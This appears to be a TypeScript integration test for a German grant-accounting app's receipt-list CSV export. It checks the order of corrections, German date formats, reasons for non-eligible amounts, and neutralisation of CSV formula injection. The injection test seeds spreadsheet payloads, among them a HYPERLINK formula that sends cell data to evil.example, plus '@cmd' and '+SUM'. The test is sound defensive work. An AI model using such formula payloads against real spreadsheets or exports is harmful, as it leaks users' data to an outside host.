import { createFundedProject, type FundedProject } from '../factories/funded-project.js';
import { key, receipt, RECORD, REVERSE } from '../factories/money-ops.js';
import { createTestApp, type TestApp } from '../setup/test-app.js';

const EXPORT = `query($projectId: ID!, $kind: ProofKind!, $fiscalYear: Int, $asOf: LocalDate) {
  proofExport(projectId: $projectId, kind: $kind, fiscalYear: $fiscalYear, asOf: $asOf) { files { name url } } }`;

const AS_OF = '2023-04-15';

/** Splits a German CSV (BOM, `;`, CRLF, quotes where needed) into rows of cells. */
function parseGermanCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 1; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') (row.push(cell), (cell = ''));
    else if (c === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
    else cell += c;
  }
  return rows;
}

/**
 * The Belegliste as a grantor reads it: corrections in order (original,
 * its Storno, the replacement), the original marked as reversed; formula-like text neutralised
 * while amounts still parse as numbers; German dates; the reason for a non-eligible part. The
 * streamed receipts.csv has the same bytes.
 */
describe('proof receipts: order of corrections, CSV injection, German dates', () => {
  let t: TestApp;
  let p: FundedProject;
  let belegliste: string;
  let streamed: string;
  const chains: string[] = [];

  beforeAll(async () => {
    t = await createTestApp();
    p = await createFundedProject(t.orm, { plan: { 2022: { A: '100000.00', B1: '20000.00' }, 2023: { A: '100000.00' } } });
    const book = async (fields: Record<string, unknown>) => {
      const result = await t.gqlAs(p.finance, RECORD, {
        input: {
          idempotencyKey: key(),
          projectId: p.projectId,
          receipt: receipt(p.category.A, { invoiceDate: '2022-05-01', paymentDate: '2022-05-10', ...fields }),
        },
      });
      expect(result.errors).toBeUndefined();
      return result.data!.recordExpenditure;
    };
    // six receipts paid the same day, each corrected: with the old order (by random id) a Storno came before its original
    for (let i = 1; i <= 6; i++) {
      const original = await book({ receiptNumber: `K-${i}`, grossAmount: '100.00', eligibleAmount: '100.00' });
      const reversed = await t.gqlAs(p.finance, REVERSE, {
        input: {
          idempotencyKey: key(),
          expenditureId: original.id,
          reason: `Gutschrift ${i}`,
          replacement: receipt(p.category.A, {
            receiptNumber: `K-${i}`,
            invoiceDate: '2022-05-01',
            paymentDate: '2022-05-10',
            grossAmount: '90.00',
            eligibleAmount: '90.00',
          }),
        },
      });
      expect(reversed.errors).toBeUndefined();
      chains.push(`K-${i}`);
    }
    await book({
      receiptNumber: 'X-1',
      payee: '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
      purpose: '+SUM(1;2)',
      paymentDate: '2022-06-01',
    });
    await book({ receiptNumber: 'X-2', payee: '-2+3', purpose: '@cmd', paymentDate: '2022-06-02' });
    await book({
      receiptNumber: 'V-1',
      grossAmount: '119.00',
      ineligibleAmount: '19.00',
      eligibleAmount: '100.00',
      ineligibleReason: 'Vorsteuer abzugsfähig',
      paymentDate: '2022-06-03',
    });
    const files = (await t.gqlAs(p.finance, EXPORT, { projectId: p.projectId, kind: 'INTERIM', fiscalYear: 2022, asOf: AS_OF })).data!
      .proofExport.files;
    const auth = await t.auth(p.finance);
    belegliste = (
      await t
        .http()
        .get(files.find((f: any) => f.name.endsWith('-belegliste.csv')).url)
        .set(auth)
    ).text;
    streamed = (await t.http().get(`/exports/projects/${p.projectId}/receipts.csv?fiscalYear=2022&asOf=${AS_OF}`).set(auth)).text;
  }, 300_000);
  afterAll(() => t.close());

  it('lists each original, then its Storno, then the replacement, chains in booking order, the original marked as reversed', () => {
    const rows = parseGermanCsv(belegliste).filter((r) => r[1]?.startsWith('K-'));
    expect(rows.map((r) => r[1])).toEqual(chains.flatMap((c) => [c, c, c]));
    for (let i = 0; i < chains.length; i++) {
      const [original, storno, replacement] = rows.slice(3 * i, 3 * i + 3);
      expect([original[7], storno[7], replacement[7]]).toEqual(['100,00', '-100,00', '90,00']);
      expect(original[10]).toBe(`storniert durch Storno: Gutschrift ${i + 1}`);
      expect(storno[10]).toBe(`Storno von Beleg ${chains[i]}: Gutschrift ${i + 1}`);
      expect(replacement[10]).toContain('Ersatzbuchung');
    }
  });

  it('neutralises cells a spreadsheet would evaluate, while amounts still parse as numbers', () => {
    const rows = parseGermanCsv(belegliste);
    const x1 = rows.find((r) => r[1] === 'X-1')!;
    const x2 = rows.find((r) => r[1] === 'X-2')!;
    expect([x1[5], x1[6], x2[5], x2[6]]).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1;"Klick")', "'+SUM(1;2)", "'-2+3", "'@cmd"]);
    for (const row of rows.slice(1)) for (const cell of [row[5], row[6]]) expect(cell ?? '').not.toMatch(/^[=+\-@\t\r]/);
    expect(x1.slice(7, 10)).toEqual(['119,00', '0,00', '119,00']);
    expect(rows.find((r) => r[0] === 'Gesamt')![7]).toMatch(/^-?\d+,\d{2}$/);
  });

  it('writes German dates and the reason for the non-eligible part', () => {
    const v1 = parseGermanCsv(belegliste).find((r) => r[1] === 'V-1')!;
    expect([v1[3], v1[4]]).toEqual(['03.06.2022', '01.05.2022']);
    expect(v1[10]).toBe('nicht zuwendungsfähig: Vorsteuer abzugsfähig');
  });

  it('keeps the reason on the receipt, readable through GraphQL', async () => {
    const result = await t.gqlAs(
      p.finance,
      `query($projectId: ID!) { expenditures(projectId: $projectId, first: 50) { nodes { receiptNumber ineligibleReason } } }`,
      { projectId: p.projectId },
    );
    expect(result.errors).toBeUndefined();
    expect(result.data!.expenditures.nodes.find((n: any) => n.receiptNumber === 'V-1').ineligibleReason).toBe('Vorsteuer abzugsfähig');
  });

  it("streams the same bytes as the proof's Belegliste", () => {
    expect(streamed).toBe(belegliste);
  });
});
